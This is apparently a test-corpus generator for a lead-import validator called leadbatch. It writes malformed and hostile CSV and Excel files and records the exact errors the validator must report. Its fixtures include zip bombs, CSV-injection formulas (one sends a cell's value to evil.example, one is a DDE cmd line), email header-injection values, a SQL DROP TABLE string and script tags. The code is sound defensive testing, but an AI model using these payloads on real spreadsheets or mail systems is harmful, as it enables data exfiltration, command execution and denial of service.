"""The hostile input corpus: files a sales-ops person (or an attacker) could hand leadbatch.

    python tests/data/make_bad.py [OUT_DIR] [--full]

writes every file of the corpus into OUT_DIR (default: a new temporary folder) and a
`manifest.json` saying what each must produce: the exact fatal line and exit code 2, or
exit 0/1 with the exact row problems `leadbatch validate --json` reports. `--full` makes
the big ones at full size (a 1,000,000-row CSV, a 50 MB cell, a zip bomb unpacking to
2 GiB); without it they are small stand-ins that exercise the same code paths. Output is
deterministic: the same flags give the same bytes, except the encrypted workbook (its
salt is random by design of the encryption, and is not meant to be reproducible).

Every file is written by a library other than the reader under test (csv module, raw
bytes, openpyxl, xlsxwriter, xlwt, zipfile, msoffcrypto-tool).
"""

from __future__ import annotations

import argparse
import io
import json
import random
import re
import sys
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import xlsxwriter
import xlwt

FIXED_TIME = (2024, 1, 1, 0, 0, 0)  # every zip member's timestamp: reproducible bytes
SEED = 7
GIB = 1 << 30


@dataclass(frozen=True)
class Sizes:
    """How big the big cases are."""

    million_rows: int
    long_cell: int  # characters in the one huge cell
    bomb_bytes: int  # what the zip bomb's sheet unpacks to


QUICK = Sizes(million_rows=20_000, long_cell=1_000_000, bomb_bytes=32 << 20)
FULL = Sizes(million_rows=1_000_000, long_cell=50 * 1024 * 1024, bomb_bytes=2 * GIB)


@dataclass
class Expect:
    """What `leadbatch validate FILE --json` must do with one corpus file.

    `fatal`: the one stderr line, with "{path}" for the file's path (exit 2).
    Otherwise `problems` is the exact list of (row, column, message) it reports, and
    `rows`/`valid` the counts. `plan_text` lists cell texts the plan workbook must hold
    exactly (as text: formula-like text never becomes a formula).
    """

    name: str
    what: str
    exit: int
    fatal: str | None = None
    problems: list[tuple[int, str | None, str]] = field(default_factory=list)
    warnings: list[tuple[int, str | None, str]] = field(default_factory=list)
    rows: int | None = None
    valid: int | None = None
    plan_text: list[str] = field(default_factory=list)
    reproducible: bool = True
    big: bool = False  # only meaningful at full size (slow): a time and memory bound


Builder = Callable[[Path, Sizes], Expect]
BUILDERS: list[Builder] = []


def case(func: Builder) -> Builder:
    BUILDERS.append(func)
    return func


# --- writers ---------------------------------------------------------------------------------


def write_csv(path: Path, rows: Sequence[Sequence[str]], *, encoding: str = "utf-8") -> None:
    buf = io.StringIO(newline="")
    import csv

    csv.writer(buf, lineterminator="\r\n").writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))


_STAMP = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def normalise_zip(path: Path) -> None:
    """Rewrite a zip with fixed timestamps (of its members, and the created/modified
    dates inside docProps/core.xml) so the same content gives the same bytes."""
    with zipfile.ZipFile(path) as zf:
        members = [(info.filename, zf.read(info)) for info in zf.infolist()]
    members = [(n, _STAMP.sub(b"2024-01-01T00:00:00Z", d) if n == "docProps/core.xml" else d)
               for n, d in members]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, FIXED_TIME), data, zipfile.ZIP_DEFLATED)


def write_openpyxl(path: Path, sheets: dict[str, Sequence[Sequence[Any]]],
                   *, hidden: Sequence[str] = (), merges: Sequence[str] = ()) -> None:
    book = openpyxl.Workbook()
    first = book.active
    assert first is not None
    book.remove(first)
    for title, rows in sheets.items():
        ws = book.create_sheet(title)
        for row in rows:
            ws.append(list(row))
        if title in hidden:
            ws.sheet_state = "hidden"
        for rng in merges:
            if title == next(iter(sheets)):
                ws.merge_cells(rng)
    visible = [i for i, t in enumerate(sheets) if t not in hidden]
    book.active = visible[0] if visible else 0
    book.save(path)
    normalise_zip(path)


def xlsx_bytes(rows: Sequence[Sequence[Any]]) -> bytes:
    buf = io.BytesIO()
    book = openpyxl.Workbook()
    ws = book.active
    assert ws is not None
    for row in rows:
        ws.append(list(row))
    book.save(buf)
    tmp = Path(tempfile.mkstemp(suffix=".xlsx")[1])
    try:
        tmp.write_bytes(buf.getvalue())
        normalise_zip(tmp)
        return tmp.read_bytes()
    finally:
        tmp.unlink()


GOOD = [["First_Name", "Email_ID"], ["Ann", "ann@example.org"], ["Bob", "bob@example.org"]]


# --- empty, header-only, missing columns -----------------------------------------------------


@case
def empty_csv(out: Path, s: Sizes) -> Expect:
    (out / "empty.csv").write_bytes(b"")
    return Expect("empty.csv", "a zero-byte file", 2, "{path}: the file is empty")


@case
def blank_csv(out: Path, s: Sizes) -> Expect:
    (out / "blank.csv").write_bytes(b"\r\n ,, \r\n\t\r\n,,,\r\n")
    return Expect("blank.csv", "only blank lines and empty cells", 2, "{path}: the file is empty")


@case
def empty_xlsx(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "empty.xlsx", {"Leads": []})
    return Expect("empty.xlsx", "a workbook whose only sheet is empty", 2,
                  '{path}: the first sheet "Leads" is empty')


@case
def header_only_csv(out: Path, s: Sizes) -> Expect:
    write_csv(out / "header-only.csv", [["First_Name", "Email_ID", "Lead Company"]])
    return Expect("header-only.csv", "a header row and nothing else", 2, "{path}: no data rows")


@case
def header_only_xlsx(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "header-only.xlsx", {"Leads": [["Name", "Email"], [None, None]]})
    return Expect("header-only.xlsx", "a header row, then blank rows", 2, "{path}: no data rows")


@case
def missing_email(out: Path, s: Sizes) -> Expect:
    write_csv(out / "missing-email.csv", [["Name", "Phone"], ["Ann", "+14155550100"]])
    return Expect("missing-email.csv", "no email column", 2,
                  '{path}: no email column (call it "Email" or "Email_ID", or map one with '
                  '--map "HEADER=email"; the header row has: Name, Phone)')


@case
def missing_both(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "missing-columns.xlsx", {"Leads": [["Company", "City"], ["Acme", "Oslo"]]})
    return Expect("missing-columns.xlsx", "neither a name nor an email column", 2,
                  '{path}: no email or name column (call it "Email" or "Email_ID" and "Name" '
                  'or "First_Name", or map one with --map "HEADER=email"; the header row has: '
                  'Company, City)')


# --- files whose name lies, damaged and protected workbooks ----------------------------------


@case
def csv_named_xlsx(out: Path, s: Sizes) -> Expect:
    write_csv(out / "csv-named.xlsx", GOOD)
    return Expect("csv-named.xlsx", "a CSV file named .xlsx", 2,
                  "{path}: not an Excel file (it looks like text/CSV)")


@case
def html_named_xls(out: Path, s: Sizes) -> Expect:
    (out / "report.xls").write_bytes(
        b"<html><body><table><tr><td>Name</td><td>Email</td></tr>"
        b"<tr><td>Ann</td><td>ann@example.org</td></tr></table></body></html>")
    return Expect("report.xls", "an HTML page named .xls (what some CRMs export)", 2,
                  "{path}: not an Excel file (it looks like an HTML page)")


@case
def xlsx_named_csv(out: Path, s: Sizes) -> Expect:
    (out / "xlsx-named.csv").write_bytes(xlsx_bytes(GOOD))
    return Expect("xlsx-named.csv", "an Excel workbook named .csv", 2,
                  "{path}: not a CSV file (it looks like an Excel .xlsx workbook); "
                  "rename it to match")


@case
def xls_named_xlsx(out: Path, s: Sizes) -> Expect:
    book = xlwt.Workbook()
    ws = book.add_sheet("Leads")
    for r, row in enumerate(GOOD):
        for c, v in enumerate(row):
            ws.write(r, c, v)
    buf = io.BytesIO()
    book.save(buf)
    (out / "xls-named.xlsx").write_bytes(buf.getvalue())
    return Expect("xls-named.xlsx", "an Excel 97-2003 .xls named .xlsx (Excel opens it too)",
                  0, rows=2, valid=2)


@case
def encrypted_xlsx(out: Path, s: Sizes) -> Expect:
    from msoffcrypto.format.ooxml import OOXMLFile

    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(xlsx_bytes(GOOD))).encrypt("leadbatch", encrypted)
    (out / "password.xlsx").write_bytes(encrypted.getvalue())
    return Expect("password.xlsx", "a password-protected workbook (encrypted OLE container)",
                  2, "{path}: the workbook is password-protected: save a copy without a password",
                  reproducible=False)


@case
def truncated_xlsx(out: Path, s: Sizes) -> Expect:
    data = xlsx_bytes(GOOD)
    (out / "truncated.xlsx").write_bytes(data[: len(data) // 2])
    return Expect("truncated.xlsx", "half of a workbook (an interrupted download)", 2,
                  "{path}: cannot be read as an Excel file: the file is damaged or incomplete "
                  "(download or save it again)")


@case
def garbage_sheet_xlsx(out: Path, s: Sizes) -> Expect:
    good = xlsx_bytes(GOOD)
    path = out / "garbage-sheet.xlsx"
    with zipfile.ZipFile(io.BytesIO(good)) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = b"<worksheet><sheetData><row><c t=\"s\"><v>99</v></c" + b"\xff\xfe" * 40
            dst.writestr(zipfile.ZipInfo(info.filename, FIXED_TIME), data, zipfile.ZIP_DEFLATED)
    return Expect("garbage-sheet.xlsx", "a workbook whose sheet XML is garbage", 2,
                  "{path}: cannot be read as an Excel file: the file is damaged (Cell string "
                  "index not found in shared strings table)")


@case
def not_a_workbook_zip(out: Path, s: Sizes) -> Expect:
    path = out / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(zipfile.ZipInfo("holiday.jpg", FIXED_TIME), b"\xff\xd8\xff" + bytes(200))
    return Expect("photos.xlsx", "a zip archive that holds no workbook", 2,
                  "{path}: not an Excel file (it is a zip archive without a workbook in it)")


def _bomb_parts(rows_xml: Callable[[zipfile.ZipFile], None], path: Path,
                dimension: str = "A1:B2") -> None:
    """A minimal valid xlsx whose sheet1.xml is written by `rows_xml`."""
    def info(name: str) -> zipfile.ZipInfo:
        i = zipfile.ZipInfo(name, FIXED_TIME)
        i.compress_type = zipfile.ZIP_DEFLATED
        return i

    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats'
            '.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships"><sheets><sheet name="Leads" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>'),
    }
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(info(name), text)
        with zf.open(info("xl/worksheets/sheet1.xml"), "w", force_zip64=True) as sheet:
            sheet.write(
                b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                b'openxmlformats.org/spreadsheetml/2006/main"><dimension ref="'
                + dimension.encode() + b'"/><sheetData>'
                b'<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c>'
                b'<c r="B1" t="inlineStr"><is><t>Email</t></is></c></row>'
                b'<row r="2"><c r="A2" t="inlineStr"><is><t>Ann</t></is></c>'
                b'<c r="B2" t="inlineStr"><is><t>ann@example.org</t></is></c></row>')
            rows_xml(sheet)  # type: ignore[arg-type]
            sheet.write(b"</sheetData></worksheet>")


def bomb_refused(path: Path) -> str:
    """The line that refuses a zip bomb, naming its biggest part and its sizes."""
    with zipfile.ZipFile(path) as zf:
        m = max(zf.infolist(), key=lambda i: i.file_size)
    return (f"{{path}}: refused: {m.filename} would unpack to {m.file_size >> 20:,} MB from "
            f"{max(m.compress_size >> 10, 1):,} KB, which no real spreadsheet does "
            "(a zip bomb or a damaged file)")


@case
def zip_bomb_rows(out: Path, s: Sizes) -> Expect:
    # Millions of identical cells: each costs a reader memory, so it must be refused
    # before it is unpacked, not discovered when memory runs out.
    row = (b'<row><c t="inlineStr"><is><t>' + b"x" * 40 + b'</t></is></c>'
           b'<c t="inlineStr"><is><t>bomb@example.org</t></is></c></row>')
    chunk = row * ((1 << 20) // len(row) + 1)

    def fill(sheet: Any) -> None:
        for _ in range(s.bomb_bytes // len(chunk)):
            sheet.write(chunk)

    _bomb_parts(fill, out / "zip-bomb.xlsx")
    return Expect("zip-bomb.xlsx", f"a small zip whose sheet unpacks to {s.bomb_bytes >> 20} MiB "
                  "of rows", 2, bomb_refused(out / "zip-bomb.xlsx"))


@case
def zip_bomb_cell(out: Path, s: Sizes) -> Expect:
    chunk = b"A" * (1 << 20)
    head = b'<row r="3"><c r="A3" t="inlineStr"><is><t>Eve</t></is></c><c r="B3" t="inlineStr"><is><t>'

    def fill(sheet: Any) -> None:
        sheet.write(head)
        for _ in range(s.bomb_bytes // len(chunk)):
            sheet.write(chunk)
        sheet.write(b"</t></is></c></row>")

    _bomb_parts(fill, out / "zip-bomb-cell.xlsx")
    return Expect("zip-bomb-cell.xlsx", f"a small zip whose one cell unpacks to "
                  f"{s.bomb_bytes >> 20} MiB", 2, bomb_refused(out / "zip-bomb-cell.xlsx"))


@case
def dimension_bomb(out: Path, s: Sizes) -> Expect:
    # A tiny sheet that claims to span every cell Excel has (A1:XFD1048576).
    _bomb_parts(lambda sheet: None, out / "dimension-bomb.xlsx", dimension="A1:XFD1048576")
    return Expect("dimension-bomb.xlsx", "a tiny sheet claiming 17 billion cells", 0,
                  rows=1, valid=1)


# --- binary junk, encodings, NUL bytes --------------------------------------------------------


@case
def binary_csv(out: Path, s: Sizes) -> Expect:
    rng = random.Random(SEED)
    (out / "junk.csv").write_bytes(bytes(rng.randrange(256) for _ in range(64 * 1024)))
    return Expect("junk.csv", "64 KiB of random bytes named .csv", 2,
                  "{path}: not a CSV file (it contains binary data)")


@case
def binary_xlsx(out: Path, s: Sizes) -> Expect:
    rng = random.Random(SEED + 1)
    (out / "junk.xlsx").write_bytes(bytes(rng.randrange(256) for _ in range(64 * 1024)))
    return Expect("junk.xlsx", "64 KiB of random bytes named .xlsx", 2,
                  "{path}: not an Excel file (it is neither a workbook nor text: a damaged "
                  "file or another kind of file)")


@case
def mixed_encodings(out: Path, s: Sizes) -> Expect:
    # Two exports pasted together: UTF-8 lines, then Windows-1252 lines.
    utf8 = "First_Name,Email_ID,City\r\nJosé,jose@example.org,São Paulo\r\n".encode()
    cp1252 = "Zoë,zoe@example.org,Köln\r\nRenée,renee@example.org,Besançon – Nord\r\n".encode("cp1252")
    (out / "mixed-encodings.csv").write_bytes(utf8 + cp1252)
    return Expect("mixed-encodings.csv", "UTF-8 rows followed by Windows-1252 rows", 0,
                  rows=3, valid=3, plan_text=["José", "São Paulo", "Zoë", "Köln", "Renée",
                                              "Besançon – Nord"])


@case
def nul_bytes(out: Path, s: Sizes) -> Expect:
    (out / "nul-bytes.csv").write_bytes(
        b"First_Name,Email_ID\r\nA\x00nn,ann@exa\x00mple.org\r\n\x00\x00,\x00\r\nBob,bob@example.org\x00\r\n")
    return Expect("nul-bytes.csv", "NUL bytes inside cells and a row of only NULs", 0,
                  warnings=[(2, "First_Name", "NUL bytes removed"),
                            (2, "Email_ID", "NUL bytes removed"),
                            (4, "Email_ID", "NUL bytes removed")],
                  rows=2, valid=2, plan_text=["Ann", "ann@example.org", "bob@example.org"])


@case
def utf16_nul(out: Path, s: Sizes) -> Expect:
    text = "First_Name\tEmail_ID\r\nÅsa\tasa@example.org\r\n"
    (out / "unicode-text.txt").write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))
    return Expect("unicode-text.txt", "Excel's 'Unicode Text' export (UTF-16, tabs)", 0,
                  rows=1, valid=1, plan_text=["Åsa"])


# --- formulas and formula-like text -------------------------------------------------------------

FORMULA_TEXT = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "=1+2",
    "+44 20 7946 0958 ext",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]


@case
def formula_text_csv(out: Path, s: Sizes) -> Expect:
    rows = [["First_Name", "Email_ID", "Notes"]]
    for i, text in enumerate(FORMULA_TEXT):
        rows.append([text, f"formula{i}@example.org", text])
    write_csv(out / "formula-text.csv", rows)
    return Expect("formula-text.csv", "cells that start with = + - @ (CSV injection)", 0,
                  rows=len(FORMULA_TEXT), valid=len(FORMULA_TEXT),
                  plan_text=[t.strip() for t in FORMULA_TEXT])


@case
def formulas_xlsx(out: Path, s: Sizes) -> Expect:
    path = out / "formulas.xlsx"
    book = xlsxwriter.Workbook(path, {"strings_to_formulas": False})
    book.set_properties({"created": __import__("datetime").datetime(2024, 1, 1)})
    ws = book.add_worksheet("Leads")
    ws.write_row(0, 0, ["First_Name", "Email_ID", "Notes"])
    ws.write_formula(1, 0, '="Ann"&" Lee"', None, "Ann Lee")
    ws.write_string(1, 1, "ann@example.org")
    ws.write_formula(1, 2, '=HYPERLINK("http://evil.example","=1+2")', None, "=1+2")
    ws.write_string(2, 0, "=WEBSERVICE(\"http://evil.example\")")
    ws.write_string(2, 1, "web@example.org")
    ws.write_formula(2, 2, "=1+1", None, 2)
    book.close()
    normalise_zip(path)
    return Expect("formulas.xlsx", "real formulas (cached values used) and formula text", 0,
                  rows=2, valid=2, plan_text=["Ann Lee", "=1+2", '=WEBSERVICE("http://evil.example")'])


# --- headers: duplicates, merged cells, hidden first sheet --------------------------------------


@case
def duplicate_headers(out: Path, s: Sizes) -> Expect:
    write_csv(out / "duplicate-headers.csv", [
        ["First_Name", "Email_ID", "Notes", "Notes", ""],
        ["Ann", "ann@example.org", "a", "b", "c"],
        ["Ann again", "ANN@example.org ", "", "", ""],
    ])
    return Expect("duplicate-headers.csv", "two Notes columns, a blank header, a repeated email",
                  1, problems=[(3, "Email_ID", "duplicate of row 2 (same email)")], rows=2, valid=1)


@case
def duplicate_email_columns(out: Path, s: Sizes) -> Expect:
    write_csv(out / "two-email-columns.csv", [["Name", "Email", "E-mail"], ["Ann", "a@x.org", "b@x.org"],
                                              ["Bob", "", "bob@x.org"]])
    # Each row uses the first non-blank email column; the other is a custom field.
    return Expect("two-email-columns.csv", "two columns that both mean email", 0, rows=2, valid=2)


@case
def merged_title_row(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "merged-title.xlsx", {"Leads": [
        ["Leads for March", None, None], ["First_Name", "Email_ID", "Company"],
        ["Ann", "ann@example.org", "Acme"],
    ]}, merges=["A1:C1"])
    # The title line is skipped with a note; the header is the row below it.
    return Expect("merged-title.xlsx", "a merged title row above the header", 0, rows=1, valid=1)


@case
def merged_header_cells(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "merged-header.xlsx", {"Leads": [
        ["First_Name", "Email_ID", "Phone", None], ["Ann", "ann@example.org", "+1", "4155550100"],
        ["Bob", "bob@example.org", "+44", "2079460958"],
    ]}, merges=["C1:D1"])
    # The phone is optional: the number the merge split is sent as written, with a warning.
    return Expect("merged-header.xlsx", "a header cell merged over two columns", 0,
                  warnings=[(2, "Phone", 'invalid phone number "+1": unknown country code: '
                             "sent as written"),
                            (3, "Phone", 'invalid phone number "+44": unknown country code: '
                             "sent as written")],
                  rows=2, valid=2)


@case
def hidden_first_sheet(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "hidden-first.xlsx", {
        "Lookup": [["Code", "Value"], ["x", "=1"]],
        "Leads": [["First_Name", "Email_ID"], ["Ann", "ann@example.org"]],
    }, hidden=["Lookup"])
    return Expect("hidden-first.xlsx", "a hidden first sheet before the leads", 0, rows=1, valid=1,
                  plan_text=["Ann", "ann@example.org"])


# --- emails: Unicode and injection attempts ---------------------------------------------------------


@case
def unicode_emails(out: Path, s: Sizes) -> Expect:
    write_csv(out / "unicode-emails.csv", [
        ["First_Name", "Email_ID"],
        ["José", "josé@exämple.com"],
        ["Wei", "用户@例子.广告"],
        ["Ivan", "иван@пример.рф"],
        ["Zero width", "ze\u200bro@example.org"],
        ["Fullwidth", "ann＠example.org"],
    ])
    return Expect("unicode-emails.csv", "internationalised addresses and lookalike characters",
                  1, plan_text=["josé@exämple.com", "用户@例子.广告", "иван@пример.рф"], problems=[
                      (5, "Email_ID", 'invalid email "ze\\u200bro@example.org": character not allowed: \\u200b'),
                      (6, "Email_ID", 'invalid email "ann＠example.org": no @'),
                  ], rows=5, valid=3)


INJECTION_EMAILS = [
    "ann@example.org\nBcc: victim@example.net",
    "bob@example.org\r\nX-Injected: yes",
    '"quoted"@example.org',
    "eve@example.org\"; DROP TABLE leads;--",
    "<script>alert(1)</script>@example.org",
    "mallory@example.org%0d%0abcc:x@example.net",
]


@case
def injection_emails(out: Path, s: Sizes) -> Expect:
    rows = [["First_Name", "Email_ID", "Notes"]]
    rows += [[f"Row {i}", e, ""] for i, e in enumerate(INJECTION_EMAILS)]
    rows.append(["<script>alert('x')</script>", "script@example.org", "=IMPORTXML(\"x\")"])
    rows.append(["Line\r\nBreak", "crlf@example.org", "a\nb"])
    write_csv(out / "injection.csv", rows)
    return Expect("injection.csv", "newlines, quotes, CRLF header injection and <script> in cells",
                  1, problems=[
                      (2, "Email_ID", 'invalid email "ann@example.org\\nBcc: victim@example.net": '
                       "more than one address in the cell"),
                      (3, "Email_ID", 'invalid email "bob@example.org\\r\\nX-Injected: yes": '
                       "contains a line break"),
                      (4, "Email_ID", 'invalid email "\\"quoted\\"@example.org": '
                       'character not allowed: "'),
                      (5, "Email_ID", 'invalid email "eve@example.org\\"; DROP TABLE leads;--": '
                       "more than one address in the cell"),
                      (6, "Email_ID", 'invalid email "<script>alert(1)</script>@example.org": '
                       "character not allowed: ( ) < >"),
                      (7, "Email_ID", 'invalid email "mallory@example.org%0d%0abcc:x@example.net": '
                       "more than one @"),
                  ], rows=8, valid=2, plan_text=['=IMPORTXML("x")'])


# --- size: a million rows, a huge cell ----------------------------------------------------------


@case
def million_rows(out: Path, s: Sizes) -> Expect:
    n = s.million_rows
    with (out / "million-rows.csv").open("w", newline="", encoding="utf-8") as fh:
        fh.write("First_Name,Last_Name,Email_ID,Lead Company,City\r\n")
        for i in range(n):
            fh.write(f"Lead{i},Surname{i % 977},lead{i}@example{i % 13}.org,Company {i % 5003},City {i % 101}\r\n")
        fh.write("Again,Twice,lead0@example0.org,Co,City\r\n")
    return Expect("million-rows.csv", f"{n:,} rows (and the first email again at the end)", 1,
                  problems=[(n + 2, "Email_ID", "duplicate of row 2 (same email)")],
                  rows=n + 1, valid=n, big=True)


@case
def long_cell(out: Path, s: Sizes) -> Expect:
    size = s.long_cell
    with (out / "long-cell.csv").open("w", newline="", encoding="utf-8") as fh:
        fh.write("First_Name,Email_ID,Notes\r\nAnn,ann@example.org,short\r\nBob,bob@example.org,\"")
        chunk = '""quoted"", lorem ipsum.' * 4096
        written = 0
        while written < size:
            fh.write(chunk)
            written += len(chunk) - chunk.count('""')
        fh.write("\"\r\nCy,cy@example.org,ok\r\n")
    return Expect("long-cell.csv", f"a cell of {size / 1e6:.0f} million characters", 1,
                  problems=[(3, "Notes", f"the cell holds {written:,} characters; a spreadsheet "
                             "cell holds at most 32,767")], rows=3, valid=2, big=True)


@case
def long_email(out: Path, s: Sizes) -> Expect:
    email = "x" * 40_000 + "@example.org"
    write_csv(out / "long-email.csv", [["First_Name", "Email_ID"], ["Ann", email],
                                       ["Bob", "bob@example.org"]])
    return Expect("long-email.csv", "a 40,000-character email: quoted in the message, cut short",
                  1, problems=[
                      (2, "Email_ID", "the cell holds 40,012 characters; a spreadsheet cell "
                       "holds at most 32,767"),
                      (2, "Email_ID", f'invalid email "{"x" * 300}…" (40,012 characters): '
                       "longer than 254 characters"),
                  ], rows=2, valid=1)


@case
def multiline_header(out: Path, s: Sizes) -> Expect:
    write_openpyxl(out / "multiline-header.xlsx", {"Leads": [
        ["First\nName", "E-mail\naddress"], ["Ann", "ann@@example.org"], ["Bob", "bob@example.org"],
    ]})
    return Expect("multiline-header.xlsx", "header cells with line breaks (Alt+Enter)", 1,
                  problems=[(2, "E-mail address", 'invalid email "ann@@example.org": more than one @')],
                  rows=2, valid=1)


def generate(out: Path, sizes: Sizes = QUICK) -> list[Expect]:
    """Write the corpus into `out` and its manifest; the expectations, in order."""
    out.mkdir(parents=True, exist_ok=True)
    expectations = [build(out, sizes) for build in BUILDERS]
    (out / "manifest.json").write_text(
        json.dumps([asdict(e) for e in expectations], indent=2, ensure_ascii=False) + "\n",
        encoding="utf-8")
    return expectations


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", nargs="?", type=Path, help="folder to write (default: a new temp folder)")
    parser.add_argument("--full", action="store_true", help="the big cases at full size")
    args = parser.parse_args(argv)
    out = args.out or Path(tempfile.mkdtemp(prefix="leadbatch-bad-"))
    found = generate(out, FULL if args.full else QUICK)
    print(f"{len(found)} files and manifest.json written to {out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
